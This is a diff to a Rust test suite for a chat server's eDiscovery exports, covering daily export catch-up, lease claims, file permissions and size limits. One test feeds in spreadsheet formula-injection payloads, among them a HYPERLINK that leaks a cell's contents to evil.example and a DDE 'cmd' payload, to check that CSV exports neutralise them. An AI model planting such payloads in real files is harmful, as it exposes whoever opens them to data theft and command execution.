@@ -6,7 +6,7 @@
 
 use std::collections::{BTreeMap, BTreeSet};
 
-use chrono::{TimeDelta, Utc};
+use chrono::{DateTime, NaiveDate, TimeDelta, Utc};
 use serde_json::{json, Value};
 use sha2::{Digest, Sha256};
 
@@ -520,47 +520,209 @@ async fn exports_read_back_in_every_format(backend: Backend) {
     );
 }
 
+/// A value bound into SQL run with the table owner's rights.
+enum Arg {
+    At(DateTime<Utc>),
+    Id(uuid::Uuid),
+}
+
+/// Runs `sql` with `args` bound, bypassing Concord (to place content at past times).
+async fn exec(app: &TestApp, sql: &str, args: &[Arg]) {
+    use sqlx::Connection;
+    macro_rules! run {
+        ($conn:ty) => {{
+            let mut c = <$conn>::connect(&app.database_url).await.unwrap();
+            let mut q = sqlx::query(sql);
+            for a in args {
+                q = match a {
+                    Arg::At(t) => q.bind(*t),
+                    Arg::Id(i) => q.bind(*i),
+                };
+            }
+            q.execute(&mut c)
+                .await
+                .unwrap_or_else(|e| panic!("{sql}: {e}"));
+        }};
+    }
+    match app.backend {
+        Backend::Sqlite => run!(sqlx::SqliteConnection),
+        Backend::Postgres => run!(sqlx::PgConnection),
+    }
+}
+
+fn uuid_of(id: &str) -> uuid::Uuid {
+    uuid::Uuid::parse_str(id).unwrap()
+}
+
+/// `day` at `h:m:s` UTC.
+fn at(day: NaiveDate, h: u32, m: u32, s: u32) -> DateTime<Utc> {
+    day.and_hms_opt(h, m, s).unwrap().and_utc()
+}
+
+/// Files in the export directory, by name.
+fn listing(directory: &std::path::Path) -> Vec<String> {
+    let mut names: Vec<String> = std::fs::read_dir(directory)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    names.sort();
+    names
+}
+
 async fn the_daily_export_writes_each_day_once(backend: Backend) {
     let out = tempfile::tempdir().unwrap();
-    let directory = out.path().to_path_buf();
-    let app = spawn_app_with(backend, |c| {
-        let d = &mut c.ediscovery.daily_export;
-        d.enabled = true;
-        d.directory = Some(directory.clone());
-        d.hour = 0;
-        d.check_seconds = 1;
-        d.format = "jsonl".into();
-    })
-    .await;
+    // Concord creates the directory itself, readable by its own user only.
+    let directory = out.path().join("daily");
+    let app = spawn_app(backend).await;
     let t = app.team().await;
     let general = channel(&app, &t.ann, &t.ws, "general", "public").await;
-    say(&app, &t.ann, &general, "delta daily report").await;
-    let today = Utc::now().date_naive();
-    let yesterday = today - TimeDelta::days(1);
-    let file = |day: chrono::NaiveDate| directory.join(format!("ediscovery-{}-{day}.jsonl", t.ws));
+    let older = say(&app, &t.ann, &general, "delta older report").await;
+    let missed = say(&app, &t.ann, &general, "delta daily report").await;
+    let by_hand = say(&app, &t.ann, &general, "delta by hand").await;
+    let up = app
+        .upload(&t.ann, &general, "late.txt", b"late upload")
+        .await
+        .expect(201)
+        .clone();
+    let file = up["id"]
+        .as_str()
+        .or(up["file"]["id"].as_str())
+        .unwrap()
+        .to_owned();
 
-    // The server's task exports yesterday (nothing was written then) once its hour has come.
+    // The content is placed on past days, computed from one reading of the clock (so the
+    // test holds across midnight): the workspace was made ten days ago, one message two days
+    // ago, the rest yesterday, and the file's upload started the day before yesterday just
+    // before midnight but completed yesterday, so it is yesterday's content.
+    let today = Utc::now().date_naive();
+    let day = |n: i64| today - TimeDelta::days(n);
+    exec(
+        &app,
+        "UPDATE messages SET created_at = $1",
+        &[Arg::At(at(day(1), 10, 0, 0))],
+    )
+    .await;
+    for (m, when) in [
+        (&older, at(day(2), 9, 0, 0)),
+        (&by_hand, at(day(6), 12, 0, 0)),
+    ] {
+        exec(
+            &app,
+            "UPDATE messages SET created_at = $1 WHERE id = $2",
+            &[Arg::At(when), Arg::Id(uuid_of(&id(m)))],
+        )
+        .await;
+    }
+    exec(
+        &app,
+        "UPDATE files SET created_at = $1, completed_at = $2 WHERE id = $3",
+        &[
+            Arg::At(at(day(2), 23, 59, 50)),
+            Arg::At(at(day(1), 0, 0, 30)),
+            Arg::Id(uuid_of(&file)),
+        ],
+    )
+    .await;
+    exec(
+        &app,
+        "UPDATE workspaces SET created_at = $1 WHERE id = $2",
+        &[Arg::At(at(day(10), 8, 0, 0)), Arg::Id(uuid_of(&t.ws))],
+    )
+    .await;
+
+    // The server was down for days: once the daily export is on, its task exports every
+    // day it missed within `catch_up_days`, oldest first, each once.
+    let app = app
+        .restart_with(|c| {
+            let d = &mut c.ediscovery.daily_export;
+            d.enabled = true;
+            d.directory = Some(directory.clone());
+            d.hour = 0;
+            d.check_seconds = 1;
+            d.catch_up_days = 4;
+            d.format = "jsonl".into();
+        })
+        .await;
+    let name = |d: NaiveDate| format!("ediscovery-{}-{d}.jsonl", t.ws);
+    let file_of = |d: NaiveDate| directory.join(name(d));
     let deadline = std::time::Instant::now() + WAIT;
-    while !file(yesterday).exists() {
+    while app
+        .scalar("SELECT COUNT(*) FROM ediscovery_daily_exports")
+        .await
+        < 4
+    {
         assert!(
             std::time::Instant::now() < deadline,
-            "no daily export appeared"
+            "the missed days were not exported: {:?}",
+            std::fs::read_dir(&directory).map(|d| d.count())
         );
         tokio::time::sleep(std::time::Duration::from_millis(100)).await;
     }
-    assert_eq!(std::fs::read(file(yesterday)).unwrap(), b"");
+    let lines = |d: NaiveDate| -> Vec<Value> {
+        std::fs::read_to_string(file_of(d))
+            .unwrap()
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect()
+    };
+    let two_days_ago = lines(day(2));
+    assert_eq!(two_days_ago.len(), 1, "{two_days_ago:?}");
+    assert_eq!(two_days_ago[0]["text"], "delta older report");
+    let yesterday = lines(day(1));
+    let texts: Vec<&str> = yesterday
+        .iter()
+        .filter_map(|l| l["text"].as_str())
+        .collect();
+    assert!(texts.contains(&"delta daily report"), "{yesterday:?}");
+    assert!(
+        yesterday.iter().any(|l| l["id"] == missed["id"]),
+        "{yesterday:?}"
+    );
+    assert!(
+        yesterday
+            .iter()
+            .any(|l| l["kind"] == "file" && l["id"] == file.as_str()),
+        "the file completed yesterday is yesterday's: {yesterday:?}"
+    );
+    assert!(!texts.contains(&"delta by hand"), "{yesterday:?}");
+    assert_eq!(
+        app.scalar("SELECT COUNT(*) FROM ediscovery_daily_claims")
+            .await,
+        0,
+        "a recorded day keeps no claim"
+    );
 
-    // The command line exports a day on demand, once.
+    // Plaintext by design, so readable by Concord's user only.
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode(&directory), 0o700);
+        for n in listing(&directory) {
+            assert_eq!(mode(&directory.join(&n)), 0o600, "{n}");
+        }
+    }
+    assert!(
+        listing(&directory).iter().all(|n| !n.contains("partial")),
+        "{:?}",
+        listing(&directory)
+    );
+
+    // The command line exports an older day on demand, once, and refuses a day that is not
+    // over: it would be recorded as done with part of its content.
     let mut app = app;
     app.stop().await;
-    let daily = |day: chrono::NaiveDate| {
-        let out = std::process::Command::new(env!("CARGO_BIN_EXE_concord"))
+    let daily = |d: NaiveDate| {
+        std::process::Command::new(env!("CARGO_BIN_EXE_concord"))
             .args(app.cli_args())
-            .args(["ediscovery", "daily", "--day", &day.to_string()])
+            .args(["ediscovery", "daily", "--day", &d.to_string()])
             .env("CONCORD_LOG__FILTER", "warn")
             .env("CONCORD_EDISCOVERY__DAILY_EXPORT__DIRECTORY", &directory)
             .output()
-            .unwrap();
+            .unwrap()
+    };
+    let ok = |d: NaiveDate| {
+        let out = daily(d);
         assert!(
             out.status.success(),
             "{}",
@@ -568,32 +730,32 @@ async fn the_daily_export_writes_each_day_once(backend: Backend) {
         );
         serde_json::from_slice::<Value>(&out.stdout).unwrap()
     };
-    let first = daily(today);
+    let first = ok(day(6));
     assert_eq!(first["written"].as_array().unwrap().len(), 1, "{first}");
     assert_eq!(first["written"][0]["workspace_id"], t.ws.as_str());
     assert_eq!(first["written"][0]["items"], 1);
-    let written = std::fs::read_to_string(file(today)).unwrap();
-    let line: Value = serde_json::from_str(written.trim()).unwrap();
-    assert_eq!(line["text"], "delta daily report");
-    let again = daily(today);
+    let line: Value =
+        serde_json::from_str(std::fs::read_to_string(file_of(day(6))).unwrap().trim()).unwrap();
+    assert_eq!(line["text"], "delta by hand");
+    let again = ok(day(6));
     assert_eq!(again["written"], json!([]), "{again}");
     assert_eq!(again["skipped"], json!([t.ws]));
-    let before = daily(yesterday);
-    assert_eq!(before["written"], json!([]), "{before}");
-    let mut names: Vec<String> = std::fs::read_dir(&directory)
-        .unwrap()
-        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
-        .collect();
-    names.sort();
-    assert_eq!(
-        names,
-        vec![
-            format!("ediscovery-{}-{yesterday}.jsonl", t.ws),
-            format!("ediscovery-{}-{today}.jsonl", t.ws),
-        ]
-    );
+    let done = ok(day(1));
+    assert_eq!(done["written"], json!([]), "{done}");
+    assert_eq!(done["skipped"], json!([t.ws]));
+    let before = listing(&directory);
+    for not_over in [today, today + TimeDelta::days(1)] {
+        let out = daily(not_over);
+        assert!(!out.status.success(), "{not_over} was exported");
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
+        assert!(stderr.contains("is not over yet"), "{stderr}");
+        assert!(out.stdout.is_empty());
+    }
+    assert_eq!(listing(&directory), before);
+    assert!(before.contains(&name(day(6))) && before.contains(&name(day(2))));
 
-    // Both are audited as scheduled exports by the system.
+    // Each is audited as a scheduled export by the system.
     let app = app.restart().await;
     let admin = app.login("admin@example.org", PASSWORD).await;
     let scheduled: Vec<Value> = app
@@ -606,11 +768,263 @@ async fn the_daily_export_writes_each_day_once(backend: Backend) {
                 && e["details"]["criteria"]["workspace_id"] == t.ws.as_str()
         })
         .collect();
-    assert_eq!(scheduled.len(), 2, "{scheduled:?}");
+    let recorded = app
+        .scalar("SELECT COUNT(*) FROM ediscovery_daily_exports")
+        .await;
+    assert_eq!(scheduled.len() as i64, recorded, "{scheduled:?}");
+    assert!(recorded >= 5);
+}
+
+/// Two runners (two nodes on one database, or the command line beside a server) claim the
+/// same workspace's day at once: exactly one wins and writes it; the other may take it over
+/// only once the winner's lease has lapsed, and a lapsed runner cannot record it after that.
+async fn two_runners_claiming_a_day_get_it_once(backend: Backend) {
+    use concord::store::ediscovery::{
+        claim_daily_export, complete_daily_export, DailyClaim, DailyExportRecord,
+    };
+    use concord::store::{StoreError, Tx};
+    let app = spawn_app(backend).await;
+    let t = app.team().await;
+    let ws: concord::domain::WorkspaceId = t.ws.parse().unwrap();
+    let day = "2024-03-01";
+    let other_node = app.open_store().await;
+    async fn claim_day(
+        store: &concord::store::Store,
+        ws: concord::domain::WorkspaceId,
+        runner: &'static str,
+        now: DateTime<Utc>,
+    ) -> Result<DailyClaim, StoreError> {
+        store
+            .write(move |tx: &mut Tx| {
+                Box::pin(async move {
+                    claim_daily_export(
+                        &mut tx.conn(),
+                        ws,
+                        "2024-03-01",
+                        "jsonl",
+                        runner,
+                        now,
+                        now + TimeDelta::minutes(15),
+                    )
+                    .await
+                })
+            })
+            .await
+    }
+    let now = Utc::now();
+    let (a, b) = tokio::join!(
+        claim_day(&app.store, ws, "a", now),
+        claim_day(&other_node, ws, "b", now)
+    );
+    let (a, b) = (a.unwrap(), b.unwrap());
+    assert!(
+        matches!(
+            (a, b),
+            (DailyClaim::Claimed, DailyClaim::Held) | (DailyClaim::Held, DailyClaim::Claimed)
+        ),
+        "{a:?} {b:?}"
+    );
+    let (winner, loser) = if a == DailyClaim::Claimed {
+        ("a", "b")
+    } else {
+        ("b", "a")
+    };
+    // The holder renews; the other is still refused while the lease holds.
+    let later = now + TimeDelta::minutes(10);
+    assert_eq!(
+        claim_day(&app.store, ws, winner, later).await.unwrap(),
+        DailyClaim::Claimed
+    );
+    assert_eq!(
+        claim_day(&app.store, ws, loser, later).await.unwrap(),
+        DailyClaim::Held
+    );
+    // The holder stops; once its lease lapses the other takes the day over, and the first
+    // can no longer record it.
+    let lapsed = later + TimeDelta::minutes(16);
+    assert_eq!(
+        claim_day(&other_node, ws, loser, lapsed).await.unwrap(),
+        DailyClaim::Claimed
+    );
+    let record = |runner: &'static str| {
+        let r = DailyExportRecord {
+            workspace_id: ws,
+            day: day.to_owned(),
+            format: "jsonl".into(),
+            file_name: "f.jsonl".into(),
+            items: 0,
+            bytes: 0,
+            sha256: String::new(),
+            written_at: Utc::now(),
+        };
+        app.store.write(move |tx: &mut Tx| {
+            Box::pin(async move { complete_daily_export(&mut tx.conn(), &r, runner).await })
+        })
+    };
+    assert!(!record(winner).await.unwrap());
+    assert!(record(loser).await.unwrap());
+    // Done: nobody claims it again, whatever the time.
+    for runner in ["a", "b", "c"] {
+        let found = claim_day(&other_node, ws, runner, lapsed + TimeDelta::days(1)).await;
+        assert_eq!(found.unwrap(), DailyClaim::Done);
+    }
+    other_node.close().await;
+}
+
+/// Cells a spreadsheet would run as formulas are written as text in a CSV export; the other
+/// formats keep the text as written.
+async fn csv_cells_never_become_formulas(backend: Backend) {
+    let app = spawn_app(backend).await;
+    let t = app.team().await;
+    let officer = officer(&app, &t.admin).await;
+    let general = channel(&app, &t.ann, &t.ws, "general", "public").await;
+    let formulas = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+    ];
+    let mut ids = Vec::new();
+    for text in formulas {
+        ids.push(id(&say(&app, &t.ann, &general, text).await));
+    }
+    let plain = id(&say(&app, &t.ann, &general, "a=1 is fine").await);
+    let ws = t.ws.as_str();
+    let (_, bytes) = export(
+        &app,
+        &officer,
+        json!({"workspace": ws, "format": "jsonl", "kinds": ["messages"]}),
+    )
+    .await;
+    let stored: BTreeMap<String, String> = String::from_utf8(bytes)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .map(|l| (id(&l), l["text"].as_str().unwrap().to_owned()))
+        .collect();
+    let (_, bytes) = export(
+        &app,
+        &officer,
+        json!({"workspace": ws, "format": "csv", "kinds": ["messages"]}),
+    )
+    .await;
+    let rows = python(
+        "import csv, sys, json\n\
+         print(json.dumps(list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))))\n",
+        &bytes,
+    );
+    let cells: BTreeMap<String, String> = rows
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| (id(r), r["text"].as_str().unwrap().to_owned()))
+        .collect();
+    for m in &ids {
+        let text = &stored[m];
+        assert!(
+            text.starts_with(['=', '+', '-', '@', '\t']),
+            "{text:?} is no formula"
+        );
+        assert_eq!(cells[m], format!("'{text}"), "{text:?}");
+    }
+    assert_eq!(cells[&plain], "a=1 is fine");
+}
+
+/// An export is complete or refused: caps on keyword matches, on the kept deleted messages
+/// a keyword search reads, on items and on bytes of text all refuse it with
+/// `export_too_large`, while a search says its page is `truncated`.
+async fn exports_past_a_limit_are_refused_never_cut_short(backend: Backend) {
+    let app = spawn_app_with(backend, |c| {
+        c.ediscovery.max_keyword_matches = 3;
+        c.ediscovery.max_deleted_scanned = 1;
+        c.ediscovery.max_export_items = 80;
+        c.ediscovery.max_export_mib = 1;
+    })
+    .await;
+    let t = app.team().await;
+    let officer = officer(&app, &t.admin).await;
+    let general = channel(&app, &t.ann, &t.ws, "general", "public").await;
+    join(&app, &t.bo, &general).await;
+    for i in 0..4 {
+        say(&app, &t.ann, &general, &format!("omega number {i}")).await;
+    }
+    say(&app, &t.ann, &general, "sigma alone").await;
+    let ws = t.ws.as_str();
+    let refused = |body: Value| {
+        let app = &app;
+        let officer = &officer;
+        async move {
+            let r = app.post(EXPORTS, Some(&officer.access), body).await;
+            r.expect_error(422, "export_too_large");
+            r.body["error"]["message"].as_str().unwrap().to_owned()
+        }
+    };
+
+    // Keywords matching more than a search considers.
+    let page = search(&app, &officer, json!({"workspace": ws, "query": "omega"})).await;
+    assert_eq!(page["truncated"], true, "{page}");
+    assert_eq!(page["results"].as_array().unwrap().len(), 3, "{page}");
+    let one = search(&app, &officer, json!({"workspace": ws, "query": "sigma"})).await;
+    assert_eq!(one["truncated"], false, "{one}");
+    assert_eq!(one["total"], 1, "{one}");
+    let why = refused(json!({"workspace": ws, "query": "omega", "format": "jsonl"})).await;
+    assert!(why.contains("max_keyword_matches"), "{why}");
+    let (_, bytes) = export(
+        &app,
+        &officer,
+        json!({"workspace": ws, "query": "sigma", "format": "jsonl"}),
+    )
+    .await;
+    assert_eq!(String::from_utf8(bytes).unwrap().lines().count(), 1);
+
+    // Text counts toward max_export_mib: 66 messages of 16 000 bytes are over 1 MiB.
+    let bulk = "x".repeat(15_990);
+    for i in 0..66 {
+        say(&app, &t.bo, &general, &format!("bulk {i:04} {bulk}")).await;
+    }
+    let why = refused(json!({"workspace": ws, "format": "csv"})).await;
+    assert!(why.contains("max_export_mib"), "{why}");
+    let (_, bytes) = export(
+        &app,
+        &officer,
+        json!({"workspace": ws, "custodians": [t.ann.user_id], "format": "csv"}),
+    )
+    .await;
+    assert!(String::from_utf8(bytes).unwrap().contains("sigma alone"));
+
+    // More items than one export holds.
+    for i in 0..10 {
+        say(&app, &t.ann, &general, &format!("more {i}")).await;
+    }
+    let why = refused(json!({"workspace": ws, "format": "jsonl"})).await;
+    assert!(why.contains("max_export_items"), "{why}");
+
+    // More kept deleted messages than a keyword search reads: its results may miss some.
+    app.post(
+        &format!("/api/v1/workspaces/{}/legal-holds", t.ws),
+        Some(&officer.access),
+        json!({"name": "matter", "custodians": [t.ann.user_id]}),
+    )
+    .await
+    .expect(201);
+    for text in ["kappa one", "kappa two"] {
+        let m = say(&app, &t.ann, &general, text).await;
+        app.delete(&format!("/api/v1/messages/{}", id(&m)), &t.ann.access)
+            .await
+            .expect(204);
+    }
+    let page = search(&app, &officer, json!({"workspace": ws, "query": "kappa"})).await;
+    assert_eq!(page["truncated"], true, "{page}");
+    let why = refused(json!({"workspace": ws, "query": "sigma", "format": "jsonl"})).await;
+    assert!(why.contains("max_deleted_scanned"), "{why}");
 }
 
 both_backends!(
     searching_narrows_by_custodian_channel_date_and_keyword,
     exports_read_back_in_every_format,
     the_daily_export_writes_each_day_once,
+    two_runners_claiming_a_day_get_it_once,
+    csv_cells_never_become_formulas,
+    exports_past_a_limit_are_refused_never_cut_short,
 );
